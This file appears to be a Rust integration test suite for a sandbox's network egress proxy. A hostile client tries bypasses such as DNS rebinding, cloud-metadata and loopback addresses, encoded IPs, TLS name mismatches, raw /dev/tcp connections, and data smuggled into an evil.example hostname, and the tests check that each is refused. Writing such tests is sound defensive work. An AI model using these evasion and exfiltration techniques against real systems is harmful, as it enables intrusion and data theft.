//! Declared hosts: real servers at public and private addresses of a network namespace, a hostile client in the sandbox, the real binary.
//!
//! in: `sandbox run --egress` and a workflow's step; out: what the client reached, what the servers saw, what the log says.
//! **Invariant:** every refusal has its control: the same client reaches the same server without the sandbox.

use std::path::PathBuf;
use std::time::{Duration, Instant};

use serde_json::Value;

use crate::workspace::{Finished, Tiny};

/// Names as the namespace's resolver has them. `rebind` is public and private at once.
const HOSTS: &str = "93.184.216.34 good.example\n93.184.216.35 evil.example\n93.184.216.36 rebind.example\n10.77.0.1 rebind.example\n\
                     127.0.0.1 inward.example\n169.254.169.254 metadata.example\n::ffff:93.184.216.35 mapped.example\n10.77.0.1 private.example\n";

/// Answers every connection with `pong`, and writes down at which address it was asked and what came first.
const SERVER: &str = r#"
import socket, sys, threading
seen = open(sys.argv[1], 'a', buffering=1)
def serve(address, port):
    listener = socket.socket(socket.AF_INET6 if ':' in address else socket.AF_INET)
    listener.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    listener.bind((address, port)); listener.listen(50)
    def one(client):
        seen.write(f'{address}:{port} connected\n')
        first = client.recv(4096)
        if first:
            client.sendall(b'pong'); 
            while client.recv(65536): pass
        seen.write(f'{address}:{port} closed\n'); client.close()
    def loop():
        while True:
            client, _ = listener.accept()
            threading.Thread(target=one, args=(client,), daemon=True).start()
    threading.Thread(target=loop, daemon=True).start()
for address in ['93.184.216.34', '93.184.216.35', '93.184.216.36', '10.77.0.1', '10.77.0.2', '127.0.0.1', '169.254.169.254']:
    serve(address, 443)
open(sys.argv[1] + '.ready', 'w').close()
threading.Event().wait()
"#;

/// One line for each attempt: what came back. Without a proxy it connects by itself.
const CLIENT: &str = r#"
import os, socket, struct, sys
def v(n, b): return len(b).to_bytes(n, 'big') + b
def hello(name):
    sni = v(2, b'\0' + v(2, name.encode())) if name else b''
    extensions = (b'\0\0' + v(2, sni)) if name else b'\0\x2b' + v(2, b'\2\3\4')
    body = b'\3\3' + bytes(32) + v(1, b'') + v(2, b'\x13\1') + v(1, b'\0') + v(2, extensions)
    return b'\x16\3\1' + v(2, b'\1' + v(3, body))
def attempt(target, name):
    host, port = target.rsplit(':', 1)
    proxy = os.environ.get('HTTPS_PROXY', '').removeprefix('http://')
    try:
        if not proxy:
            s = socket.create_connection((host, int(port)), 5); s.sendall(hello(name)); return s.recv(100).decode()
        s = socket.create_connection(tuple(proxy.split(':')), 5); s.settimeout(20)
        request = target if target.startswith('GET') else f'CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n\r\n'
        s.sendall(request.encode())
        head = b''
        while b'\r\n\r\n' not in head:
            part = s.recv(4096)
            if not part: return 'closed'
            head += part
        status = head.split()[1].decode()
        if status != '200':
            text = head.decode(errors='replace')
            return status + ' ' + text[text.find('[') + 1:text.find(']')]
        s.sendall(hello(name))
        answer = s.recv(100)
        return answer.decode() or 'closed'
    except OSError as error:
        return type(error).__name__
for target, name in zip(sys.argv[1::2], sys.argv[2::2]):
    print(target.split('\r')[0], name, attempt(target, name), sep=' | ', flush=True)
"#;

/// A namespace with servers, for one test.
struct World {
    tiny: Tiny,
    folder: PathBuf,
}

impl World {
    /// None for who cannot make one.
    fn new(tiny: Tiny) -> Option<Self> {
        if !crate::signer::is_root() || !PathBuf::from("/usr/bin/python3").exists() {
            eprintln!("skipped: needs root for a network namespace of its own, and Python for its servers");
            return None;
        }
        let folder = tiny.dir.join("../world");
        std::fs::create_dir_all(&folder).unwrap();
        for (name, text) in
            [("hosts", HOSTS), ("nsswitch.conf", "hosts: files\n"), ("server.py", SERVER), ("client.py", CLIENT), ("seen", "")]
        {
            std::fs::write(folder.join(name), text).unwrap();
        }
        Some(Self { folder: folder.canonicalize().unwrap(), tiny })
    }

    fn path(&self, name: &str) -> String {
        self.folder.join(name).display().to_string()
    }

    /// The binary, or another program, in the namespace.
    fn run_as(&self, program: Option<&str>, arguments: &[&str]) -> Finished {
        let script = "set -e; ip link set lo up
            for a in 93.184.216.34 93.184.216.35 93.184.216.36 10.77.0.1 10.77.0.2 169.254.169.254; do ip addr add $a/32 dev lo; done
            mount --make-rprivate /; mount --bind \"$1/hosts\" /etc/hosts; mount --bind \"$1/nsswitch.conf\" /etc/nsswitch.conf
            rm -f \"$1/seen.ready\"; /usr/bin/python3 \"$1/server.py\" \"$1/seen\" & server=$!; trap 'kill $server' EXIT
            for i in $(seq 200); do test -e \"$1/seen.ready\" && break; sleep 0.05; done; shift
            \"$@\"";
        let inner = self.tiny.command(arguments);
        let ours = inner.get_program().to_owned();
        let command = self.tiny.command(&[]);
        // the same folders and variables, another program
        let mut outer = std::process::Command::new("unshare");
        outer.args(["-n", "-m", "sh", "-c", script, "sh"]).arg(&self.folder).arg(program.map_or(ours, Into::into)).args(arguments);
        outer
            .current_dir(&self.tiny.dir)
            .env_clear()
            .envs(command.get_envs().filter_map(|(name, value)| value.map(|value| (name.to_owned(), value.to_owned()))));
        outer.env("PATH", "/usr/sbin:/usr/bin:/sbin:/bin").stdin(std::process::Stdio::null());
        Finished::of(&outer.output().unwrap())
    }

    /// What the client in the sandbox says of each target, with these hosts declared.
    fn attempts(&self, egress: &[&str], attempts: &[(&str, &str)]) -> Vec<String> {
        let client = format!("{}:/in/client.py", self.path("client.py"));
        let mut all = vec!["sandbox", "run", "--profile", profile(), "--ro", &client];
        egress.iter().for_each(|host| all.extend(["--egress", host]));
        all.extend(["--", "/usr/bin/python3", "/in/client.py"]);
        attempts.iter().for_each(|(target, name)| all.extend([target, name]));
        let done = self.run_as(None, &all);
        assert_eq!(done.code, 0, "{}\n{}", done.stdout, done.stderr);
        answers(&done.stdout)
    }

    fn seen(&self) -> String {
        std::fs::read_to_string(self.folder.join("seen")).unwrap()
    }
}

fn profile() -> &'static str {
    match seaworthy_sandbox::preflight(seaworthy_sandbox::Profile::Strict) {
        Ok(_) => "strict",
        Err(_) => "no-cgroup",
    }
}

fn answers(text: &str) -> Vec<String> {
    text.lines().map(|line| line.rsplit(" | ").next().unwrap().to_owned()).collect()
}

/// What the client asks for, and which host it then names to TLS.
const TARGETS: &[(&str, &str)] = &[
    ("good.example:443", "good.example"),
    ("evil.example:443", "evil.example"),
    ("93.184.216.35:443", ""),
    ("good.example:443", "evil.example"),
    ("good.example:443", ""),
    ("rebind.example:443", "rebind.example"),
    ("inward.example:443", "inward.example"),
    ("metadata.example:443", "metadata.example"),
    ("mapped.example:443", "mapped.example"),
    ("private.example:443", "private.example"),
    ("10.77.0.1:443", ""),
    ("10.77.0.2:443", ""),
    ("127.0.0.1:443", ""),
    ("[::ffff:93.184.216.34]:443", ""),
    ("2130706433:443", ""),
    ("GET http://good.example/ HTTP/1.1\r\nHost: good.example\r\n\r\n", ""),
];

/// 8, 9, 10, 18: what is declared is reached, and nothing else, by whatever name. The control: without the sandbox every server answers.
#[test]
fn a_command_reaches_the_hosts_it_declares_and_nothing_else() {
    let Some(world) = World::new(Tiny::unlocked()) else { return };
    let egress = [
        "good.example:443",
        "rebind.example:443",
        "inward.example:443",
        "metadata.example:443",
        "mapped.example:443",
        "private.example:443",
        "10.77.0.1:443",
    ];
    let said = world.attempts(&egress, TARGETS);
    let private = "403 egress/private-address";
    let undeclared = "403 egress/not-declared";
    let expected = [
        "pong",
        undeclared,
        undeclared,
        "closed",
        "closed",
        private,
        private,
        private,
        private,
        private,
        "pong",
        undeclared,
        undeclared,
        undeclared,
        "400 egress/destination",
        "405 egress/method",
    ];
    assert_eq!(said, expected);
    let seen = world.seen();
    assert_eq!(seen.matches("connected").count(), 2, "{seen}");
    assert!(seen.contains("93.184.216.34:443 connected") && seen.contains("10.77.0.1:443 connected"), "{seen}");

    // the control: the client without sandbox and proxy reaches every one of them
    let client = world.path("client.py");
    let mut bare = vec![client.as_str()];
    bare.extend([
        "evil.example:443",
        "evil.example",
        "rebind.example:443",
        "x",
        "metadata.example:443",
        "x",
        "10.77.0.2:443",
        "",
        "127.0.0.1:443",
        "",
        "good.example:443",
        "evil.example",
    ]);
    let done = world.run_as(Some("/usr/bin/python3"), &bare);
    assert_eq!(answers(&done.stdout), ["pong"; 6], "{}", done.stderr);
}

/// 10: who ignores the proxy has no network, and no resolver.
#[test]
fn what_ignores_the_proxy_has_no_network() {
    let Some(world) = World::new(Tiny::unlocked()) else { return };
    let script = "import socket\nfor what in [lambda: socket.create_connection(('93.184.216.34', 443), 3), lambda: socket.getaddrinfo('good.example', 443), \
                  lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', ('93.184.216.34', 53)), lambda: socket.create_connection(('127.0.0.1', 443), 3)]:\n \
                  try: what(); print('reached')\n except OSError as error: print(type(error).__name__)";
    let done = world
        .run_as(None, &["sandbox", "run", "--profile", profile(), "--egress", "good.example:443", "--", "/usr/bin/python3", "-c", script]);
    assert_eq!(done.stdout, "OSError\ngaierror\nOSError\nConnectionRefusedError\n", "{}", done.stderr);
    assert!(world.seen().is_empty());
}

/// Neither a slow client nor an open connection outlives the command; killing it closes what was open.
#[test]
fn the_end_of_the_command_closes_everything() {
    let Some(world) = World::new(Tiny::unlocked()) else { return };
    let run = |options: &[&str], script: &str| {
        let mut all = vec!["sandbox", "run", "--profile", profile(), "--egress", "good.example:443"];
        all.extend(options);
        all.extend(["--", "/usr/bin/python3", "-c", script]);
        let begun = Instant::now();
        (world.run_as(None, &all), begun.elapsed())
    };
    let (done, took) = run(
        &[],
        "import os, socket\nfor part in [b'', b'CONN', b'CONNECT good.example:443 HTTP/1.1\\r\\nX: ']:\n s = socket.create_connection(('127.0.0.1', 3128)); s.sendall(part); os.dup2(s.fileno(), 90 + len(part))",
    );
    assert!(done.code == 0 && took < Duration::from_secs(8), "{took:?} {}", done.stderr);
    let client = std::fs::read_to_string(world.folder.join("client.py")).unwrap();
    let hold = format!(
        "{}\nimport time\ns = socket.create_connection(('127.0.0.1', 3128)); s.sendall(b'CONNECT good.example:443 HTTP/1.1\\r\\n\\r\\n'); s.recv(100); s.sendall(hello('good.example')); print(s.recv(10).decode(), flush=True); time.sleep(60)",
        client.split("for target").next().unwrap()
    );
    let (done, took) = run(&["--timeout", "3"], &hold);
    assert_eq!((done.code, done.stdout.as_str()), (124, "pong\n"), "{}", done.stderr);
    assert!(took < Duration::from_secs(12), "{took:?}");
    assert!(world.seen().contains("93.184.216.34:443 closed"), "{}", world.seen());
}

/// A whole TLS session through the proxy, by a client that knows nothing of us. Skipped where there is no openssl or curl.
#[test]
fn real_clients_speak_tls_through_it() {
    let Some(world) = World::new(Tiny::unlocked()) else { return };
    if !["/usr/bin/openssl", "/usr/bin/curl"].iter().all(|tool| PathBuf::from(tool).exists()) {
        eprintln!("skipped: no openssl or curl here");
        return;
    }
    let script = format!(
        "cd {} && openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:prime256v1 -nodes -keyout key.pem -out cert.pem -days 2 -subj /CN=good.example -addext subjectAltName=DNS:good.example 2>/dev/null
         openssl s_server -accept 93.184.216.34:8443 -cert cert.pem -key key.pem -www -quiet & server=$!
         sleep 0.7; \"$@\"; code=$?; kill $server; exit $code",
        world.folder.display()
    );
    let binary = env!("CARGO_BIN_EXE_seaworthy");
    let cert = format!("{}:/in/cert.pem", world.path("cert.pem"));
    let curl = |host: &'static str| vec!["--", "curl", "-sS", "--cacert", "/in/cert.pem", "-o", "/dev/null", "-w", "%{http_code}", host];
    let mut all =
        vec!["-c", &script, "sh", binary, "sandbox", "run", "--profile", profile(), "--ro", &cert, "--egress", "good.example:8443"];
    all.extend(curl("https://good.example:8443/"));
    let done = world.run_as(Some("/bin/sh"), &all);
    assert_eq!((done.code, done.stdout.trim()), (0, "200"), "{}", done.stderr);
    let from = all.len() - curl("").len();
    all.truncate(from);
    all.extend(curl("https://evil.example:443/"));
    let done = world.run_as(Some("/bin/sh"), &all);
    assert_ne!(done.code, 0);
    assert!(
        done.stderr.contains("403") && done.stderr.contains("sandbox: denied: [egress/not-declared] `evil.example:443`"),
        "{}",
        done.stderr
    );
}

/// A step of a workflow: decisions, connections and refusals are leaves of the log; the attestation tells the traffic; `verify` agrees.
#[test]
fn a_steps_connections_are_in_the_log_and_the_attestation() {
    let tiny = Tiny::unlocked();
    give_client(
        &tiny,
        &[("good.example:443", "good.example"), ("data-of-somebody.evil.example:443", "x"), ("good.example:443", "evil.example")],
    );
    tiny.edit("seaworthy.yaml", "outputs: {doubled: dataset}", "outputs: {doubled: dataset}, egress: ['good.example:443']");
    tiny.ok(&["keys", "create"]);
    tiny.ok(&["lock"]);
    let Some(world) = World::new(tiny) else { return };
    let done = world.run_as(None, &["run", "workflow.yaml", "--profile", profile()]);
    assert_eq!(done.code, 0, "{}\n{}", done.stdout, done.stderr);
    let tiny = &world.tiny;
    let events: Vec<Value> =
        tiny.ok(&["log", "show", "--json"]).stdout.lines().filter_map(|line| serde_json::from_str(line).ok()).collect();
    let text = serde_json::to_string(&events).unwrap();
    let count = |what: &str| text.matches(what).count();
    assert_eq!((count("egress.allowed"), count("egress.denied"), count("egress.closed")), (1, 2, 1), "{text}");
    assert!(text.contains("egress/not-declared") && text.contains("egress/server-name") && text.contains("*.evil.example"), "{text}");
    assert!(!text.contains("data-of-somebody"), "what hides in a name does not get into the log");
    assert!(text.contains("93.184.216.34"), "{text}");
    assert_eq!(world.seen().matches("connected").count(), 1);
    tiny.ok(&["verify", "log"]);
    let run = done.stdout.split_whitespace().skip_while(|word| *word != "run").nth(1).unwrap().to_owned();
    tiny.ok(&["verify", &format!("run:{run}")]);
    let exported = tiny.dir.join("evidence");
    tiny.ok(&["attest", "export", &format!("run:{run}"), "-o", exported.to_str().unwrap()]);
}

/// A workspace policy refuses a declared host: the step does not begin. The control is the test above.
#[test]
fn a_policy_refuses_a_declared_host_before_the_step_begins() {
    let tiny = Tiny::unlocked();
    tiny.edit("seaworthy.yaml", "outputs: {doubled: dataset}", "outputs: {doubled: dataset}, egress: ['good.example:443']");
    tiny.write("policies/authz/hosts.cedar", b"@id(\"no-good\") @message(\"not that host\") forbid (principal, action == Action::\"connect\", resource == Host::\"good.example\");");
    tiny.ok(&["keys", "create"]);
    tiny.ok(&["lock"]);
    let done = tiny.refused(&["run", "workflow.yaml", "--profile", profile()], 1, "not that host");
    assert!(done.stdout.contains("double") || done.stderr.contains("double"), "{}{}", done.stdout, done.stderr);
}

/// A client of the proxy for steps, whose environment has a shell and little else: bash and its library, as code.
fn give_client(tiny: &Tiny, attempts: &[(&str, &str)]) {
    std::fs::copy("/bin/bash", tiny.dir.join("src/bash")).unwrap();
    let libraries = ["/lib/x86_64-linux-gnu/libtinfo.so.6", "/lib/aarch64-linux-gnu/libtinfo.so.6"];
    if let Some(library) = libraries.iter().find(|path| PathBuf::from(path).exists()) {
        std::fs::copy(library, tiny.dir.join("src/libtinfo.so.6")).unwrap();
    }
    let mut script = "say() { local host=$1 name=$2 line; exec 9<>/dev/tcp/127.0.0.1/3128; printf 'CONNECT %s HTTP/1.1\\r\\n\\r\\n' \"$host\" >&9\n\
                      read -r line <&9; echo \"$line\"; case $line in *200*) read -r line <&9; printf \"$3\" >&9; read -r -n 4 -t 10 line <&9; echo \"$line\";; esac; exec 9>&-; }\n"
        .to_owned();
    for (host, name) in attempts {
        script.push_str(&format!("say {host} {name} '{}'\n", escaped_hello(name)));
    }
    tiny.write("src/client.sh", script.as_bytes());
    tiny.edit(
        "src/double.sh",
        "echo doubled",
        "echo \"$HTTPS_PROXY\"; LD_LIBRARY_PATH=/code /code/bash /code/client.sh 2>&1; echo doubled",
    );
}

/// A hello as `printf` of bash writes it.
fn escaped_hello(name: &str) -> String {
    let vector = |bytes: usize, content: &[u8]| [&u32::try_from(content.len()).unwrap().to_be_bytes()[4 - bytes..], content].concat();
    let names = vector(2, &[&[0][..], &vector(2, name.as_bytes())].concat());
    let extensions = [&[0, 0][..], &vector(2, &names)].concat();
    let body = [&[3, 3][..], &[0; 32], &[0], &vector(2, &[0x13, 1]), &vector(1, &[0]), &vector(2, &extensions)].concat();
    let message = [&[1][..], &vector(3, &body)].concat();
    let record = [&[22, 3, 1][..], &vector(2, &message)].concat();
    record.iter().map(|byte| format!("\\x{byte:02x}")).collect()
}
